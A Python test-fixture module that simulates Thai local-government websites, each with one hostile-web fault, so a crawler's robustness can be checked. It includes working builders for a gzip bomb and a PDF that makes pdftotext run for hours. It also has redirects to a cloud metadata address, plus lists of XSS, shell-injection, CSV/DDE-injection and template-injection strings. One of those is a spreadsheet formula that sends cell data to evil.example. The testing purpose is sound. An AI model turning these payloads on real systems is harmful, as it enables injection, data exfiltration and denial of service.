"""The fault-catalog world: small LAO-like sites that each exhibit one hostile-web fault.

``fault_world()`` returns a World (see ``oitsim/world.py``) with one host per fault kind,
``fault-<kind>.sim.test``; ``FAULT_KINDS`` lists every kind with the status, flags, page
and document statuses the crawler must report for it. ``fault_registry_rows()`` gives
registry rows (``config/registry/laos.csv`` columns) for a crawl of all of them.

Each site is a home page in Thai with a short menu; the fault sits on the home page, on the
connection (``HostProfile.fault``, applied by ``oitsim/server.py``), on ``robots.txt``, on a
linked page or on a linked document. Thai text comes from ``oitsim/data/fault_sites.yaml``.

Document builders (``hang_pdf``, ``encrypted_pdf``, ``malformed_pdf``, ``many_pages_pdf``,
``padded_pdf``, ``text_pdf``) are shared with the extraction tests.
"""
from __future__ import annotations

import functools
import hashlib
import html
import struct
import threading
import time
import zlib
from dataclasses import dataclass, field
from urllib.parse import parse_qs, quote, urlsplit

from .content import load_yaml
from .world import HostProfile, SimResponse, not_found

__all__ = ["FaultKind", "FAULT_KINDS", "FaultWorld", "fault_world", "fault_registry_rows",
           "HOSTILE_STRINGS", "hang_pdf", "encrypted_pdf", "malformed_pdf", "many_pages_pdf",
           "padded_pdf", "text_pdf", "PARKED_HOST", "DOMAIN"]

DOMAIN = "sim.test"
PARKED_HOST = f"parked-domain.{DOMAIN}"
MOVED_HOST = "fault-moved-lao.go.th"      # a government domain: the crawler follows a home redirect there
HTML = "text/html; charset=utf-8"
PDF = "application/pdf"

#: Site-supplied strings that must come out escaped in every report format.
HOSTILE_STRINGS = (
    '<script>alert("oit-xss")</script>',
    '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
    '"; rm -rf / #',
    "$(touch /tmp/oit-pwned)",
    "`id`",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }} {% raw %}",
)
#: Hostile document file names linked from the hostile-text site (URL-quoted in the href).
HOSTILE_FILENAMES = (
    '"; rm -rf ~; echo ".pdf',
    "$(touch oit-pwned).pdf",
    "report`id`.pdf",
    "a|b&c;d.pdf",
    "--output=x.pdf",
)


def _t() -> dict:
    return load_yaml("fault_sites")


@dataclass(frozen=True)
class FaultKind:
    """One fault kind of the catalog and what the crawler must report for it."""

    kind: str                          # catalog name, e.g. "gzip_bomb"
    status: str                        # expected SiteEvidence.status
    flags: tuple[str, ...] = ()        # expected to be among SiteEvidence.flags
    pages: dict = field(default_factory=dict)      # path -> expected Page.fetch_error
    documents: dict = field(default_factory=dict)  # path -> expected Document.extract_status (or fetch_error)
    home_text: str = ""                # key into fault_sites.yaml whose Thai text must be read correctly
    scheme: str = "http"
    path: str = "/"                    # registry URL path
    fault: str | None = None           # connection-level fault applied by the server
    note: str = ""

    @property
    def host(self) -> str:
        return f"fault-{self.kind.replace('_', '-')}.{DOMAIN}"

    @property
    def url(self) -> str:
        return f"{self.scheme}://{self.host}{self.path}"


FAULT_KINDS: tuple[FaultKind, ...] = (
    # connection faults
    FaultKind("dns_error", "dns_error", fault="dns_error", note="domain does not resolve"),
    FaultKind("refused", "connection_refused", fault="refuse", note="TCP RST before any byte"),
    FaultKind("reset", "connection_reset", fault="reset", note="RST in the middle of the body"),
    FaultKind("hang", "timeout", fault="hang", note="accepts, never answers"),
    FaultKind("drip", "timeout", fault="drip", note="one byte per second, past the download timeout"),
    # HTTP status faults
    FaultKind("http_500", "server_error"),
    FaultKind("http_502", "server_error"),
    FaultKind("http_503", "server_error", note="503 with Retry-After: 1"),
    FaultKind("http_403", "blocked", note="bot block: never non-compliance"),
    FaultKind("http_429", "blocked", note="429 with a Retry-After longer than the crawler waits"),
    FaultKind("retry_after", "ok", note="first answer 429 Retry-After: 1, then the site; must wait and succeed"),
    FaultKind("waf_challenge", "blocked", note="HTTP 200 Cloudflare-style challenge page"),
    # redirect faults
    FaultKind("redirect_loop", "redirect_loop", note="/ -> /a -> /b -> /a"),
    FaultKind("redirect_chain", "too_many_redirects", note="15 hops"),
    FaultKind("redirect_offsite", "redirect_offsite", note=f"home redirects to the parked {PARKED_HOST}"),
    FaultKind("moved_to_go_th", "ok", flags=("moved_domain",),
              note=f"home redirects (301) to the LAO's new address {MOVED_HOST}, which serves the site"),
    FaultKind("redirect_private", "private_address_refused", note="redirect to 169.254.169.254"),
    FaultKind("redirect_private_hex", "private_address_refused", note="redirect to http://0x7f.1/ (127.0.0.1)"),
    # crawler traps
    FaultKind("calendar_trap", "ok", flags=("trap_suspected",), note="endless next-month links"),
    FaultKind("session_trap", "ok", flags=("trap_suspected",), note="every link carries a fresh session id"),
    # oversized content
    FaultKind("huge_html", "too_large", note="50 MB home page"),
    FaultKind("gzip_bomb", "too_large", note="100 KB gzip that inflates to 100 MB"),
    FaultKind("huge_pdf", "ok", documents={"/files/huge.pdf": "too_large"}, note="30 MB PDF"),
    FaultKind("many_pages_pdf", "ok", documents={"/files/many-pages.pdf": "too_large"},
              note="PDF with more pages than the extractor reads"),
    # bad documents
    FaultKind("malformed_pdf", "ok", documents={"/files/broken.pdf": "malformed"}),
    FaultKind("encrypted_pdf", "ok", documents={"/files/locked.pdf": "encrypted"}),
    FaultKind("extractor_hang", "ok", documents={"/files/endless.pdf": "timeout"},
              note="nested form XObjects: pdftotext runs for hours"),
    FaultKind("html_as_pdf", "ok", documents={"/files/missing.pdf": "malformed"},
              note="an HTML error page served as application/pdf"),
    # encoding faults: the Thai must still be read correctly
    FaultKind("tis620_no_header", "ok", home_text="about_text", note="TIS-620 bytes, no charset anywhere"),
    FaultKind("windows874_meta", "ok", home_text="about_text", note="windows-874, charset only in <meta>"),
    FaultKind("wrong_charset", "ok", home_text="about_text", note="UTF-8 body, header says ISO-8859-1"),
    FaultKind("invalid_html", "ok", home_text="invalid_html_note", note="unclosed, mis-nested tags, NUL bytes"),
    # TLS faults: still checked, flagged
    FaultKind("tls_expired", "ok", flags=("tls_expired",), scheme="https", fault="tls_expired"),
    FaultKind("tls_self_signed", "ok", flags=("tls_self_signed",), scheme="https", fault="tls_self_signed"),
    # robots faults
    FaultKind("robots_disallow", "robots_disallowed", note="User-agent: * / Disallow: /"),
    FaultKind("robots_5xx", "ok", flags=("robots_5xx",), note="robots.txt answers 500"),
    # soft failures
    FaultKind("soft_404", "soft_404", path="/index.php?page=home-old",
              note="registry URL answers 200 with a 'page not found' page"),
    FaultKind("soft_404_link", "ok", pages={"/ita": "soft_404"}, note="OIT menu link answers 200 'not found'"),
    FaultKind("js_never_settles", "js_never_settles", note="empty shell whose script polls forever"),
    # hostile text for the escaping fuzz
    FaultKind("hostile_text", "ok", note="hostile titles, link texts and file names"),
)


def _by_host() -> dict[str, FaultKind]:
    return {k.host: k for k in FAULT_KINDS}


# --------------------------------------------------------------------------- documents

def _raw_pdf(objs: dict[int, bytes]) -> bytes:
    """Serialise numbered PDF objects (1 = catalog) with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    size = max(objs) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        out += b"%010d 00000 n \n" % offsets[num] if num in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


@functools.lru_cache(maxsize=None)
def hang_pdf(levels: int = 8, fan: int = 10) -> bytes:
    """A 2 KB PDF whose page draws form X_levels, which draws X_(k-1) ``fan`` times, ...

    fan**levels text draws: pdftotext churns for hours on it (a "billion laughs" for PDF).
    """
    font = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    first = 5
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /XObject << /X%d %d 0 R >> >> >>" % (levels, first + levels),
        4: _stream(b"/X%d Do\n" % levels),
    }
    for k in range(levels + 1):
        if k == 0:
            body, res = b"BT /F1 1 Tf (a) Tj ET\n", font
        else:
            body = (b"/X%d Do\n" % (k - 1)) * fan
            res = b"<< /XObject << /X%d %d 0 R >> >>" % (k - 1, first + k - 1)
        objs[first + k] = _stream(body, b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources " + res + b" ")
    return _raw_pdf(objs)


def many_pages_pdf(pages: int = 600, text: bytes = b"page") -> bytes:
    """A small PDF with ``pages`` pages, each showing one ASCII word."""
    font = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    content = 4
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        3: font,
        content: _stream(b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"),
    }
    for i in range(pages):
        objs[first_page + i] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                                b"/Contents %d 0 R /Resources 3 0 R >>" % content)
    return _raw_pdf(objs)


def padded_pdf(size: int) -> bytes:
    """A valid one-page PDF of about ``size`` bytes (an unreferenced padding stream)."""
    font = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 5 0 R >>",
        4: _stream(b"BT /F1 12 Tf 72 720 Td (huge report) Tj ET"),
        5: font,
        6: _stream(b"0" * max(0, size)),
    }
    return _raw_pdf(objs)


def _fpdf():
    from fpdf import FPDF

    from .docs import FIXED_DATE, FONT_PATH

    pdf = FPDF(format="A4")
    pdf.set_creation_date(FIXED_DATE)
    pdf.add_font("Laksaman", fname=FONT_PATH)
    pdf.set_font("Laksaman", size=15)
    return pdf


def text_pdf(lines: list[str]) -> bytes:
    """A one-page PDF with a real Thai text layer, one line per line."""
    pdf = _fpdf()
    pdf.add_page()
    for line in lines:
        pdf.multi_cell(0, 8, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


@functools.lru_cache(maxsize=None)
def encrypted_pdf(user_password: str = "secret") -> bytes:
    """A Thai text PDF that needs a password to open."""
    pdf = _fpdf()
    pdf.add_page()
    pdf.multi_cell(0, 8, _t()["doc_title"], new_x="LMARGIN", new_y="NEXT")
    pdf.set_encryption(owner_password="owner-" + user_password, user_password=user_password)
    return bytes(pdf.output())


def malformed_pdf() -> bytes:
    """Starts like a PDF, then garbage: no xref, no trailer, a truncated stream."""
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\nstream\n\x00\xff\xfe garbage " * 40


@functools.lru_cache(maxsize=None)
def _report_pdf() -> bytes:
    t = _t()
    return text_pdf([t["doc_title"], *t["doc_lines"]])


@functools.lru_cache(maxsize=None)
def _gzip_bomb(megabytes: int = 100) -> bytes:
    """About 100 KB of gzip that inflates to ``megabytes`` MB of HTML whitespace.

    One 1 MB block is deflated once after a full flush (so it refers to nothing before it)
    and repeated; only the CRC is computed over the whole: cheap to build, costly to inflate.
    """
    head = b"<html><head><title>bomb</title></head><body>"
    chunk = b" " * (1024 * 1024)

    def block(data: bytes) -> bytes:
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        return co.compress(data) + co.flush(zlib.Z_FULL_FLUSH)

    body, crc, size = bytearray(block(head)), zlib.crc32(head), len(head)
    one = block(chunk)
    for _ in range(megabytes):
        body += one
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
    body += zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)  # final empty block
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + bytes(body) + struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)


@functools.lru_cache(maxsize=None)
def _huge_html(size: int = 50 * 1024 * 1024) -> bytes:
    head = b"<!doctype html><html><head><title>huge</title></head><body><p>"
    return head + b"x" * (size - len(head) - 20) + b"</p></body></html>"


def _warm() -> None:
    for build in (_gzip_bomb, _huge_html, hang_pdf, encrypted_pdf, _report_pdf):
        build()


# --------------------------------------------------------------------------- pages

def _name(kind: FaultKind) -> str:
    t = _t()
    names = t["names"]
    idx = [k.kind for k in FAULT_KINDS].index(kind.kind)
    return f"{names[idx % len(names)]}{idx // len(names) + 1}"


def _page(kind: FaultKind, title: str, body_html: str, *, charset: str = "utf-8", meta: str | None = "utf-8",
          links: list[tuple[str, str]] | None = None) -> str:
    t = _t()
    nav = links if links is not None else [
        ("/", t["nav"]["about"]), ("/ita", t["nav"]["ita"]), ("/news", t["nav"]["news"]),
        ("/contact", t["nav"]["contact"]),
    ]
    items = "".join(f'<li><a href="{html.escape(href, quote=True)}">{html.escape(text)}</a></li>' for href, text in nav)
    meta_tag = f'<meta charset="{meta}">' if meta else ""
    return (f"<!DOCTYPE html><html lang=\"th\"><head>{meta_tag}<title>{html.escape(title)}</title></head>"
            f"<body><header><h1>{html.escape(t['lao_type_th'])}{html.escape(_name(kind))}</h1>"
            f"<nav><ul>{items}</ul></nav></header><main>{body_html}</main></body></html>")


def _ok(body: str | bytes, ctype: str = HTML, extra: list[tuple[str, str]] | None = None,
        status: int = 200) -> SimResponse:
    data = body.encode("utf-8") if isinstance(body, str) else body
    return SimResponse(status, [("Content-Type", ctype), *(extra or [])], data)


def _redirect(location: str, status: int = 302) -> SimResponse:
    return SimResponse(status, [("Location", location), ("Content-Type", HTML)],
                       b"<html><body>moved</body></html>")


def _home(kind: FaultKind, extra_html: str = "", links: list[tuple[str, str]] | None = None, **kw) -> str:
    t = _t()
    title = f"{t['lao_type_th']}{_name(kind)}"
    body = f"<p>{html.escape(t['welcome'])} {html.escape(title)}</p><p>{html.escape(t['about_text'])}</p>{extra_html}"
    return _page(kind, title, body, links=links, **kw)


def _doc_home(kind: FaultKind, path: str) -> str:
    t = _t()
    link = f'<p><a href="{path}">{html.escape(t["nav"]["report"])}</a></p>'
    return _home(kind, link)


def _common(kind: FaultKind, path: str) -> SimResponse | None:
    """Pages every fault site has: robots.txt, the menu pages and the normal report PDF."""
    t = _t()
    if path == "/robots.txt":
        return SimResponse(404, [("Content-Type", "text/plain")], b"not found")
    if path in ("/ita", "/news", "/contact", "/about"):
        body = f"<p>{html.escape(t['ita_text'])}</p><p><a href=\"/files/report.pdf\">{html.escape(t['nav']['report'])}</a></p>"
        return _ok(_page(kind, t["nav"]["ita"], body))
    if path == "/files/report.pdf":
        return _ok(_report_pdf(), PDF)
    return None


class FaultWorld:
    """World serving every kind in FAULT_KINDS plus the parked domain offsite redirects land on.

    ``requests`` records (monotonic time, host, path) of the last requests (for assertions
    such as "Retry-After was honoured").
    """

    def __init__(self, kinds: tuple[FaultKind, ...] = FAULT_KINDS):
        self.kinds = {k.host: k for k in kinds}
        self._lock = threading.Lock()
        self._seen: dict[tuple[str, str], int] = {}
        self.requests: list[tuple[float, str, str]] = []
        # Build the big bodies now, off the request path: on a loaded machine building them on
        # first request would look like a slow server to the crawler.
        threading.Thread(target=_warm, name="fault-world-warm", daemon=True).start()

    # World protocol
    def has_host(self, host: str) -> bool:
        host = host.lower().split(":")[0]
        return host in self.kinds or host in (PARKED_HOST, MOVED_HOST)

    def profile(self, host: str) -> HostProfile:
        kind = self.kinds.get(host.lower().split(":")[0])
        return HostProfile(fault=kind.fault if kind else None)

    def hosts(self) -> list[str]:
        return [*self.kinds, PARKED_HOST, MOVED_HOST]

    def respond(self, method: str, url: str, headers: dict[str, str]) -> SimResponse:
        parts = urlsplit(url)
        host = (parts.hostname or "").lower()
        path = parts.path or "/"
        with self._lock:
            self.requests.append((time.monotonic(), host, path))
            del self.requests[:-5000]
            count = self._seen.get((host, path), 0) + 1
            self._seen[(host, path)] = count
        if host == PARKED_HOST:
            t = _t()
            return _ok(f"<html><head><title>{html.escape(t['parked_title'])}</title></head>"
                       f"<body><p>{html.escape(t['parked_text'])}</p></body></html>")
        kind = self.kinds.get(host)
        if host == MOVED_HOST:       # the moved LAO's new address serves its ordinary site
            kind = next((k for k in self.kinds.values() if k.kind == "moved_to_go_th"), None)
            if kind is not None:
                resp = self._default(kind, path)
                return SimResponse(resp.status, resp.headers, b"") if method == "HEAD" else resp
        if kind is None:
            return not_found()
        handler = getattr(self, f"_k_{kind.kind}", None)
        resp = handler(kind, path, parts.query, count) if handler else None
        if resp is None:
            resp = self._default(kind, path)
        if method == "HEAD":
            resp = SimResponse(resp.status, resp.headers, b"")
        return resp

    def _default(self, kind: FaultKind, path: str) -> SimResponse:
        common = _common(kind, path)
        if common is not None:
            return common
        if path == "/":
            return _ok(_home(kind))
        return not_found()

    # ---- HTTP status faults
    def _k_http_500(self, kind, path, query, count):
        return _ok("<html><body><h1>500 Internal Server Error</h1></body></html>", status=500) if path == "/" else None

    def _k_http_502(self, kind, path, query, count):
        return _ok("<html><body><h1>502 Bad Gateway</h1></body></html>", status=502) if path == "/" else None

    def _k_http_503(self, kind, path, query, count):
        if path == "/":
            return _ok("<html><body><h1>503 Service Unavailable</h1></body></html>", status=503,
                       extra=[("Retry-After", "1")])
        return None

    def _k_http_403(self, kind, path, query, count):
        if path in ("/", "/robots.txt"):
            return _ok("<html><head><title>403 Forbidden</title></head><body><h1>Forbidden</h1></body></html>",
                       status=403)
        return None

    def _k_http_429(self, kind, path, query, count):
        if path == "/":
            return _ok("<html><body><h1>Too Many Requests</h1></body></html>", status=429,
                       extra=[("Retry-After", "3600")])
        return None

    def _k_retry_after(self, kind, path, query, count):
        if path == "/" and count == 1:
            return _ok("<html><body><h1>Too Many Requests</h1></body></html>", status=429,
                       extra=[("Retry-After", "1")])
        return None

    def _k_waf_challenge(self, kind, path, query, count):
        if path == "/robots.txt":
            return None
        return _ok("<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>"
                   "<div id=\"challenge-platform\"><noscript>Enable JavaScript and cookies to continue</noscript>"
                   "<script>window._cf_chl_opt={cvId:'3'};</script></div></body></html>",
                   extra=[("Server", "cloudflare"), ("Cf-Ray", "8c0ffee-BKK")])

    # ---- redirects
    def _k_redirect_loop(self, kind, path, query, count):
        return {"/": _redirect("/a"), "/a": _redirect("/b"), "/b": _redirect("/a")}.get(path)

    def _k_redirect_chain(self, kind, path, query, count):
        if path == "/":
            return _redirect("/hop/1")
        if path.startswith("/hop/"):
            n = int(path.rsplit("/", 1)[1] or 0)
            return _redirect(f"/hop/{n + 1}") if n < 15 else _ok(_home(kind))
        return None

    def _k_redirect_offsite(self, kind, path, query, count):
        return _redirect(f"http://{PARKED_HOST}/?from={kind.host}", 301) if path == "/" else None

    def _k_moved_to_go_th(self, kind, path, query, count):
        return _redirect(f"http://{MOVED_HOST}{path}", 301)

    def _k_redirect_private(self, kind, path, query, count):
        return _redirect("http://169.254.169.254/latest/meta-data/") if path == "/" else None

    def _k_redirect_private_hex(self, kind, path, query, count):
        return _redirect("http://0x7f.1/admin") if path == "/" else None

    # ---- traps
    def _k_calendar_trap(self, kind, path, query, count):
        t = _t()
        if path == "/":
            return _ok(_home(kind, links=[("/calendar?year=2565&month=10", t["nav"]["calendar"]),
                                          ("/ita", t["nav"]["ita"])]))
        if path == "/calendar":
            q = parse_qs(query)
            year = int((q.get("year") or ["2565"])[0] or 2565)
            month = int((q.get("month") or ["1"])[0] or 1)
            nxt = (year + (month == 12), month % 12 + 1)
            prv = (year - (month == 1), (month - 2) % 12 + 1)
            days = "".join(f'<a href="/calendar?year={year}&month={month}&day={d}">{d}</a> ' for d in range(1, 8))
            body = (f'<p><a href="/calendar?year={prv[0]}&month={prv[1]}">&laquo;</a> '
                    f'<a href="/calendar?year={nxt[0]}&month={nxt[1]}">&raquo;</a></p><p>{days}</p>')
            title = t["calendar_title"].format(month=month, year=year)
            return _ok(_page(kind, title, body))
        return None

    def _k_session_trap(self, kind, path, query, count):
        t = _t()
        if path in ("/", "/index.php", "/ita", "/news"):
            sid = hashlib.md5(f"{path}{query}{count}".encode()).hexdigest()
            links = [(f"/index.php?PHPSESSID={sid}", t["nav"]["about"]),
                     (f"/news?PHPSESSID={sid}&p={count}", t["nav"]["news"]),
                     ("/ita", t["nav"]["ita"])]
            return _ok(_home(kind, links=links))
        return None

    # ---- oversized content
    def _k_huge_html(self, kind, path, query, count):
        return _ok(_huge_html()) if path == "/" else None

    def _k_gzip_bomb(self, kind, path, query, count):
        return _ok(_gzip_bomb(), extra=[("Content-Encoding", "gzip")]) if path == "/" else None

    def _k_huge_pdf(self, kind, path, query, count):
        if path == "/":
            return _ok(_doc_home(kind, "/files/huge.pdf"))
        return _ok(padded_pdf(30 * 1024 * 1024), PDF) if path == "/files/huge.pdf" else None

    def _k_many_pages_pdf(self, kind, path, query, count):
        if path == "/":
            return _ok(_doc_home(kind, "/files/many-pages.pdf"))
        return _ok(many_pages_pdf(600), PDF) if path == "/files/many-pages.pdf" else None

    # ---- bad documents
    def _k_malformed_pdf(self, kind, path, query, count):
        if path == "/":
            return _ok(_doc_home(kind, "/files/broken.pdf"))
        return _ok(malformed_pdf(), PDF) if path == "/files/broken.pdf" else None

    def _k_encrypted_pdf(self, kind, path, query, count):
        if path == "/":
            return _ok(_doc_home(kind, "/files/locked.pdf"))
        return _ok(encrypted_pdf(), PDF) if path == "/files/locked.pdf" else None

    def _k_extractor_hang(self, kind, path, query, count):
        if path == "/":
            return _ok(_doc_home(kind, "/files/endless.pdf"))
        return _ok(hang_pdf(), PDF) if path == "/files/endless.pdf" else None

    def _k_html_as_pdf(self, kind, path, query, count):
        if path == "/":
            return _ok(_doc_home(kind, "/files/missing.pdf"))
        if path == "/files/missing.pdf":
            return _ok("<!DOCTYPE html><html><body><h1>File not found</h1></body></html>", PDF)
        return None

    # ---- encodings
    def _k_tis620_no_header(self, kind, path, query, count):
        if path == "/":
            return _ok(_home(kind, meta=None).encode("tis-620"), "text/html")
        return None

    def _k_windows874_meta(self, kind, path, query, count):
        if path == "/":
            return _ok(_home(kind, meta="windows-874").encode("cp874"), "text/html")
        return None

    def _k_wrong_charset(self, kind, path, query, count):
        if path == "/":
            return _ok(_home(kind, meta=None).encode("utf-8"), "text/html; charset=iso-8859-1")
        return None

    def _k_invalid_html(self, kind, path, query, count):
        if path != "/":
            return None
        t = _t()
        name = f"{t['lao_type_th']}{_name(kind)}"
        broken = (f"<html><head><title>{name}</title><body><div><table><tr><td><p>{t['welcome']} {name}"
                  f"<li><a href=/ita>{t['nav']['ita']}<li><a href='/news'>{t['nav']['news']}</div></td>"
                  f"<b><i>{t['invalid_html_note']}</b></i>\x00<p>{t['about_text']}<!-- unclosed comment "
                  f"--><div </table></span></p><a href=\"/contact\" <a href=/about>{t['nav']['about']}</a>"
                  f"<script>document.write('<a href=\"/x\">')</script><p>&nbsp;&bogus; &#xZZ;")
        return _ok(broken.encode("utf-8"), "text/html; charset=utf-8")

    # ---- robots
    def _k_robots_disallow(self, kind, path, query, count):
        if path == "/robots.txt":
            return _ok("User-agent: *\nDisallow: /\n", "text/plain")
        return None

    def _k_robots_5xx(self, kind, path, query, count):
        if path == "/robots.txt":
            return _ok("<html><body>500 Internal Server Error</body></html>", status=500)
        return None

    # ---- soft failures
    def _soft_404(self, kind) -> SimResponse:
        t = _t()
        return _ok(_page(kind, t["soft_404_title"], f"<p>{html.escape(t['soft_404_text'])}</p>",
                         links=[("/", t["nav"]["about"])]))

    def _k_soft_404(self, kind, path, query, count):
        if path == "/index.php":
            return self._soft_404(kind)
        return None

    def _k_soft_404_link(self, kind, path, query, count):
        if path == "/ita":
            return self._soft_404(kind)
        return None

    def _k_js_never_settles(self, kind, path, query, count):
        t = _t()
        if path == "/":
            shell = (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>{html.escape(t['js_loading'])}"
                     "</title><script src=\"/app.js\"></script><script src=\"/vendor.js\"></script></head>"
                     "<body><div id=\"app\"></div></body></html>")
            return _ok(shell)
        if path in ("/app.js", "/vendor.js"):
            js = ("setInterval(function(){fetch('/poll?t='+Date.now()).catch(function(){});}, 150);"
                  "(function spin(){fetch('/stream?t='+Date.now()).then(spin,spin);})();")
            return _ok(js, "application/javascript")
        if path in ("/poll", "/stream"):
            return _ok("{}", "application/json")
        return None

    # ---- hostile text
    def _k_hostile_text(self, kind, path, query, count):
        if path != "/":
            if path.startswith("/files/"):
                return _ok(_report_pdf(), PDF)
            return None
        t = _t()
        title = f"{t['lao_type_th']}{_name(kind)} {HOSTILE_STRINGS[0]} {HOSTILE_STRINGS[1]}"
        links = [("/ita", f"{t['nav']['ita']} {s}") for s in HOSTILE_STRINGS[:1]]
        links += [(f"/news?q={quote(s)}", s) for s in HOSTILE_STRINGS[1:]]
        docs = "".join(f'<p><a href="/files/{quote(name)}">{html.escape(t["nav"]["report"])} {html.escape(name)}</a></p>'
                       for name in HOSTILE_FILENAMES)
        body = f"<p>{html.escape(t['welcome'])}</p>{docs}"
        return _ok(_page(kind, title, body, links=links))


def fault_world() -> FaultWorld:
    """The fault-catalog world: one host per kind in FAULT_KINDS, plus the parked domain."""
    return FaultWorld()


#: Valid Mukdahan place codes for registry rows (province 49, amphoe 4901, its tambons).
_PLACES = [("49", "4901", f"4901{n:02d}") for n in range(1, 11)]


def fault_registry_rows(kinds: tuple[FaultKind, ...] = FAULT_KINDS) -> list[dict]:
    """Registry rows (config/registry/laos.csv columns) for a crawl of the fault sites."""
    t = _t()
    rows = []
    for i, kind in enumerate(kinds):
        prov, amphoe, tambon = _PLACES[i % len(_PLACES)]
        rows.append({
            "lao_id": f"FAULT-{kind.kind}", "lao_type": "TAO", "lao_type_th": t["lao_type_th"],
            "name_th": _name(kind), "name_en": f"Fault {kind.kind}", "province_code": prov,
            "amphoe_code": amphoe, "tambon_code": tambon, "url": kind.url, "alt_urls": "",
            "facebook": "", "platform": "", "lat": "", "long": "",
        })
    return rows
